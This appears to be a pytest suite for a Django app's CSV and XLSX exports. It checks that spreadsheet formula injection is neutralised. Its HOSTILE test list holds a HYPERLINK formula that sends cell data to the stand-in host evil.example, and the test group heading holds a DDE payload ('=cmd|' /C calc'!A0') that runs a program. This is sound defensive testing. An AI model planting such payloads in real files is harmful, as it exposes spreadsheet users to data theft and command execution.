import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from innspill.archive.exports import CSV_COLUMNS
from innspill.common.spreadsheet import (
    XLSX_TYPE,
    SeparatorError,
    csv_chunks,
    csv_safe,
    csv_separator,
    csv_text,
    xlsx_append,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_would_run_get_an_apostrophe(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Barnehage", "1-2 år", "", "e-post@example.org", 5, -5, None])
def test_csv_leaves_plain_text_and_numbers_alone(value):
    assert csv_safe(value) == value


def test_xlsx_keeps_the_text_but_never_a_formula():
    workbook = Workbook()
    xlsx_append(workbook.active, [*HOSTILE, "Vanlig", 3])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [c.value for c in row] == [*HOSTILE, "Vanlig", 3]
    assert [c.data_type for c in row] == ["s"] * (len(HOSTILE) + 1) + ["n"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_archive_and_api_csv_exports_neutralise_formulas(client, make_input):
    make_input(
        HOSTILE[0], theme="arbeid", kind="tiltak", year=2018, group_heading="=cmd|' /C calc'!A0"
    )
    archive = body_of(client.get("/eksport.csv", {"sep": "comma"})).decode("utf-8-sig")
    api = body_of(client.get("/api/v1/inputs", {"format": "csv"})).decode("utf-8-sig")
    for body in (archive, api):
        rows = read_csv(body)
        assert len(rows) == 2
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
        assert "'" + HOSTILE[0] in rows[1] and "'=cmd|' /C calc'!A0" in rows[1]


def test_csv_starts_with_the_byte_order_mark_and_splits_on_the_separator_asked():
    rows = [["Navn", "Sted"], ["Åse Øvrebø", "Tromsø; Alta"], ["=1+1", 3]]
    assert csv_text(rows, sep=";") == (
        '\ufeffNavn;Sted\r\nÅse Øvrebø;"Tromsø; Alta"\r\n\'=1+1;3\r\n'
    )
    assert csv_text(rows, sep=",") == ("\ufeffNavn,Sted\r\nÅse Øvrebø,Tromsø; Alta\r\n'=1+1,3\r\n")


@pytest.mark.parametrize(
    ("value", "expected"),
    [(None, ";"), ("", ";"), ("comma", ","), (",", ","), ("Semikolon", ";"), ("tab", "\t")],
)
def test_separator_names(value, expected):
    assert csv_separator(value, default=";") == expected


def test_an_unknown_separator_is_refused():
    with pytest.raises(SeparatorError):
        csv_separator("|", default=",")


def test_csv_chunks_stay_whole_rows_and_one_mark():
    rows = [["x" * 50, n] for n in range(100)]
    chunks = list(csv_chunks(rows, sep=";", chunk_size=1000))
    assert len(chunks) == 6
    assert all(c.endswith("\r\n") for c in chunks)
    assert "".join(chunks).count("\ufeff") == 1


def test_xlsx_bytes_guards_every_sheet():
    data = xlsx_bytes([("Svar", [["Tekst"], [HOSTILE[0]]]), ("Tall: [1/2]", [["n", 2]])])
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Svar", "Tall 12"]
    cell = book["Svar"]["A2"]
    assert (cell.value, cell.data_type) == (HOSTILE[0], "s")
    assert [c.value for c in book["Tall 12"][1]] == ["n", 2]


def body_of(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.django_db
def test_ui_exports_default_to_semicolons_and_the_api_to_commas(client, make_input):
    make_input("Flere lærlingplasser, også i Tromsø.", theme="arbeid", kind="tiltak", year=2018)
    ui = body_of(client.get("/eksport.csv")).decode("utf-8")
    ui_comma = body_of(client.get("/eksport.csv", {"sep": "comma"})).decode("utf-8")
    api = body_of(client.get("/api/v1/inputs", {"format": "csv"})).decode("utf-8")
    api_semicolon = body_of(client.get("/api/v1/inputs", {"format": "csv", "sep": ";"})).decode()
    for body in (ui, ui_comma, api, api_semicolon):
        assert body.startswith("\ufeffid")
    assert ui.splitlines()[0] == "\ufeff" + ";".join(CSV_COLUMNS)
    assert ui_comma.splitlines()[0] == "\ufeff" + ",".join(CSV_COLUMNS)
    assert api.splitlines()[0] == "\ufeff" + ",".join(CSV_COLUMNS)
    assert api_semicolon == ui
    row = next(csv.reader(io.StringIO(ui.splitlines()[1]), delimiter=";"))
    assert row[:4] == [row[0], "2018", "Flere lærlingplasser, også i Tromsø.", "arbeid"]


@pytest.mark.django_db
def test_a_bad_separator_is_a_400_naming_sep(client):
    api = client.get("/api/v1/inputs", {"format": "csv", "sep": "|"})
    assert api.status_code == 400 and api.json()["parameter"] == "sep"
    assert client.get("/api/v1/followup", {"format": "csv", "sep": "|"}).json()["parameter"] == (
        "sep"
    )
    assert client.get("/eksport.csv", {"sep": "|"}).status_code == 400


@pytest.mark.django_db
def test_xlsx_is_offered_wherever_csv_is(client, make_input):
    item = make_input(HOSTILE[0], theme="arbeid", kind="tiltak", year=2018)
    for response in (
        client.get("/eksport.xlsx"),
        client.get("/api/v1/inputs", {"format": "xlsx"}),
    ):
        assert response["Content-Type"] == XLSX_TYPE
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [c.value for c in sheet[1]] == CSV_COLUMNS
        assert (sheet["A2"].value, sheet["C2"].value, sheet["C2"].data_type) == (
            item.pk,
            HOSTILE[0],
            "s",
        )
    followup = client.get("/api/v1/followup", {"format": "xlsx"})
    assert followup["Content-Type"] == XLSX_TYPE
    assert [c.value for c in load_workbook(io.BytesIO(followup.content)).active[1]] == [
        "input",
        "ministry",
        "status",
        "answer",
        "url",
        "date",
        "year",
        "theme",
    ]
    body = client.get("/").content.decode()
    assert 'href="/eksport.xlsx?"' not in body  # links carry no empty query
    assert 'href="/eksport.xlsx"' in body and 'href="/eksport.csv?sep=comma"' in body
